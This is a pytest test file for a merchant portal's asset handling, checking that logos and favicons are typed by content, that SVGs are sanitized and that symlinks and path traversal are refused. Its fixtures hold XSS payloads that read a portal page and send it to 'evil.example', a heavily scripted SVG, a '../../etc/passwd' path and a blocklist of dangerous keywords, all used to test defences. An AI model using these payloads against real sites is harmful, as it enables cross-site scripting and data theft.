"""Issue 15, findings 2 and 5: merchant assets are typed by content, SVGs sanitized, and
never read through a symbolic link or outside the merchant's own folder.

The attacks: a "logo" ``*.html`` and a favicon ``*.js`` whose first bytes contain
``<svg`` (served as ``text/html`` / ``text/javascript`` they ran script on the shared
origin), an SVG carrying script, and a logo replaced by a symbolic link after the app
loaded (it served the merchant's whole data file).
"""

from __future__ import annotations

import io
import os
import re
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner
from flask import Flask
from flask.testing import FlaskClient
from PIL import Image
from pypdf import PdfReader
from werkzeug.test import TestResponse

from app.cli import main
from tests.helpers.security import edit_yaml, sign_up_acme

HTML_LOGO = (
    "<svg><p>logo</p></svg><!doctype html><html><body><script>"
    "fetch('/stromma/portal').then(r => r.text()).then(t => navigator.sendBeacon("
    "'https://evil.example/steal', t))</script></body></html>"
)
JS_FAVICON = (
    "<svg xmlns='http://www.w3.org/2000/svg'/>;\n"
    "fetch('/stromma/portal').then(r => r.text()).then(t => location = 'https://evil.example/?' + t)"
)
SCRIPTED_SVG = """<?xml version="1.0"?>
<?xml-stylesheet href="https://evil.example/x.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     xmlns:html="http://www.w3.org/1999/xhtml" viewBox="0 0 10 10" onload="alert(1)">
  <script>alert(document.domain)</script>
  <html:script>alert(2)</html:script>
  <foreignObject width="10" height="10"><html:iframe src="/stromma/portal"/></foreignObject>
  <a xlink:href="javascript:alert(3)"><text x="1" y="8" onclick="alert(4)">ACME</text></a>
  <use href="https://evil.example/sprite.svg#icon"/>
  <image href="data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg=="/>
  <image xlink:href="https://evil.example/track.png"/>
  <rect width="10" height="10" fill="url(https://evil.example/p.svg#g)" style="fill:url(http://x)"/>
  <style>@import url(https://evil.example/a.css); rect { fill: #0b5fff }</style>
  <animate attributeName="href" to="javascript:alert(6)"/>
  <set attributeName="onclick" to="alert(7)"/>
  <circle cx="5" cy="5" r="2" fill="#ffffff"/>
</svg>
"""
DANGEROUS = (
    "script", "onload", "onclick", "foreignObject", "iframe", "javascript:", "evil.example",
    "data:text", "animate", "<set", "@import", "xml-stylesheet", "http://x",
)  # fmt: skip


def image_bytes(fmt: str, size: tuple[int, int] = (8, 4)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGBA" if fmt in ("PNG", "WEBP", "ICO") else "RGB", size, "#0b5fff").save(
        buffer, format=fmt
    )
    return buffer.getvalue()


def set_branding(merchants: Path, **branding: str) -> None:
    edit_yaml(merchants / "acme.yaml", lambda data: data["branding"].update(branding))


def check(runner: CliRunner, merchants: Path) -> tuple[int, str]:
    result = runner.invoke(main, ["check", str(merchants / "acme.yaml")])
    return result.exit_code, result.output


def value_position(path: Path, key: str) -> str:
    """``line:column`` of the value of ``  <key>:`` in the branding block."""
    for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
        if match := re.match(rf"^  {key}: ", line):
            return f"{number}:{match.end() + 1}"
    raise AssertionError(f"no {key} in {path}")


# --- portico check --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("key", "name", "content"),
    [("logo", "evil.html", HTML_LOGO), ("favicon", "evil.js", JS_FAVICON)],
)
def test_check_refuses_a_page_or_script_dressed_as_an_svg(
    runner: CliRunner, merchants: Path, key: str, name: str, content: str
) -> None:
    (merchants / "acme" / name).write_text(content, encoding="utf-8")
    set_branding(merchants, **{key: f"acme/{name}"})
    code, output = check(runner, merchants)
    assert code == 1
    where = value_position(merchants / "acme.yaml", key)
    assert (
        f"{merchants / 'acme.yaml'}:{where}: error: branding.{key}: 'acme/{name}' "
        "is not a PNG, JPEG, WebP, ICO or SVG image (not well-formed XML"
    ) in output, output


@pytest.mark.parametrize(
    ("logo", "message"),
    [
        ("stromma/logo.png", "'stromma/logo.png' is not in this merchant's own folder: put it "
                             "under 'acme/'"),
        ("acme.yaml", "'acme.yaml' is not in this merchant's own folder"),
        ("acme/../stromma/logo.png", "is not in this merchant's own folder"),
        ("../../etc/passwd", "points outside the merchants folder"),
        ("acme/link.png", "'acme/link.png' is a symbolic link"),
        ("acme", "is not in this merchant's own folder"),
        ("acme/big.png", "is larger than 2 MiB"),
        ("acme/fake.png", "is not a PNG, JPEG, WebP, ICO or SVG image (a damaged PNG file"),
    ],
)  # fmt: skip
def test_check_refuses_files_outside_the_merchants_own_folder_or_not_images(
    runner: CliRunner, merchants: Path, logo: str, message: str
) -> None:
    os.symlink(merchants / "stromma" / "logo.png", merchants / "acme" / "link.png")
    (merchants / "acme" / "big.png").write_bytes(image_bytes("PNG") + b"\0" * 3_000_000)
    (merchants / "acme" / "fake.png").write_bytes(b"\x89PNG\r\n\x1a\n<script>alert(1)</script>")
    set_branding(merchants, logo=logo)
    code, output = check(runner, merchants)
    assert code == 1
    assert "error: branding.logo: " in output and message in output, output


def test_check_warns_what_the_sanitizer_removes_and_passes(
    runner: CliRunner, merchants: Path
) -> None:
    (merchants / "acme" / "logo.svg").write_text(SCRIPTED_SVG, encoding="utf-8")
    code, output = check(runner, merchants)
    assert code == 0, output
    assert "warning: branding.logo: SVG content removed by the sanitizer: " in output
    assert "event handler attribute onload" in output and "<script>" in output


# --- serving ---------------------------------------------------------------------------


def assert_inert_image(response: TestResponse, media_type: str) -> None:
    assert response.status_code == 200
    assert response.mimetype == media_type
    policy = response.headers["Content-Security-Policy"]
    assert "sandbox" in policy and "default-src 'none'" in policy
    assert "script-src" not in policy
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_a_scripted_svg_is_served_sanitized_whatever_its_name(
    client: FlaskClient, merchants: Path
) -> None:
    (merchants / "acme" / "logo.html").write_text(SCRIPTED_SVG, encoding="utf-8")
    (merchants / "acme" / "icon.js").write_text(SCRIPTED_SVG, encoding="utf-8")
    set_branding(merchants, logo="acme/logo.html", favicon="acme/icon.js")
    for kind in ("logo", "favicon"):
        with client.get(f"/acme/assets/{kind}") as response:
            assert_inert_image(response, "image/svg+xml")
            body = response.get_data(as_text=True)
        assert body.startswith('<svg xmlns="http://www.w3.org/2000/svg"')
        for word in DANGEROUS:
            assert word not in body, word
        assert 'fill="#ffffff"' in body and ">ACME</text>" in body  # the drawing stays


@pytest.mark.parametrize(
    ("fmt", "media_type"),
    [
        ("PNG", "image/png"),
        ("JPEG", "image/jpeg"),
        ("WEBP", "image/webp"),
        ("ICO", "image/vnd.microsoft.icon"),
    ],
)
def test_raster_images_are_typed_by_content_not_by_name(
    client: FlaskClient, merchants: Path, fmt: str, media_type: str
) -> None:
    data = image_bytes(fmt)
    (merchants / "acme" / "logo.html").write_bytes(data)  # the name says HTML: ignored
    set_branding(merchants, logo="acme/logo.html")
    with client.get("/acme/assets/logo") as response:
        assert_inert_image(response, media_type)
        assert response.get_data() == data


def test_a_logo_changed_into_a_page_after_loading_is_not_served(
    client: FlaskClient, merchants: Path
) -> None:
    assert client.get("/acme/assets/logo").status_code == 200  # loaded, checked, served
    (merchants / "acme" / "logo.svg").write_text(HTML_LOGO, encoding="utf-8")
    with client.get("/acme/assets/logo") as response:
        assert response.status_code == 404
        assert "fetch(" not in response.get_data(as_text=True)
        assert response.mimetype == "text/html"  # the error page, not the file
    assert client.get("/acme/order").status_code == 200  # the merchant stays online


# --- symbolic links (finding 5) ----------------------------------------------------------


def swap_for_link(path: Path, target: Path) -> None:
    path.unlink()
    os.symlink(target, path)


def test_a_logo_replaced_by_a_link_to_the_data_file_is_never_served(
    client: FlaskClient, merchants: Path, instance_dir: Path
) -> None:
    sign_up_acme(client)
    data_file = instance_dir / "data" / "acme.json"
    assert b"jana@example.com" in data_file.read_bytes()
    assert client.get("/acme/assets/logo").status_code == 200
    swap_for_link(merchants / "acme" / "logo.svg", data_file)
    for kind in ("logo", "favicon"):
        with client.get(f"/acme/assets/{kind}") as response:
            assert response.status_code == 404
            assert b"jana@example.com" not in response.get_data()


def test_a_logo_replaced_by_a_link_to_another_merchants_logo_is_never_served(
    client: FlaskClient, merchants: Path
) -> None:
    assert client.get("/acme/assets/logo").status_code == 200
    swap_for_link(merchants / "acme" / "logo.svg", Path("../stromma/logo.png"))
    with client.get("/acme/assets/logo") as response:
        assert response.status_code == 404
        assert response.get_data() != (merchants / "stromma" / "logo.png").read_bytes()


def test_a_folder_on_the_way_replaced_by_a_link_is_never_followed(
    client: FlaskClient, merchants: Path
) -> None:
    (merchants / "acme" / "brand").mkdir()
    shutil.copy(merchants / "stromma" / "logo.png", merchants / "acme" / "brand" / "logo.png")
    set_branding(merchants, logo="acme/brand/logo.png")
    assert client.get("/acme/assets/logo").status_code == 200
    shutil.rmtree(merchants / "acme" / "brand")
    os.symlink(merchants / "stromma", merchants / "acme" / "brand")  # stromma has logo.png
    assert client.get("/acme/assets/logo").status_code == 404
    shutil.move(merchants / "acme", merchants / "acme-real")
    os.symlink(merchants / "stromma", merchants / "acme")  # the merchant's folder itself
    assert client.get("/acme/assets/logo").status_code == 404


def test_the_invoice_pdf_never_draws_a_logo_through_a_link(
    app: Flask, client: FlaskClient, merchants: Path
) -> None:
    shutil.copy(merchants / "stromma" / "logo.png", merchants / "acme" / "logo.png")
    set_branding(merchants, logo="acme/logo.png")
    sign_up_acme(client)
    container = app.extensions["portico"]
    config = container.merchants.get("acme").config
    with container.store.read("acme") as tx:
        [invoice] = list(tx.collection("invoices").all())

    def pdf_images() -> int:
        pdf = container.billing.invoice_pdf(
            "acme", config, invoice["customer_id"], invoice["number"]
        )
        return len(PdfReader(io.BytesIO(pdf)).pages[0].images)

    assert pdf_images() == 1  # the merchant's own PNG
    swap_for_link(merchants / "acme" / "logo.png", merchants / "stromma" / "logo.png")
    assert pdf_images() == 0  # left out, the invoice still issued
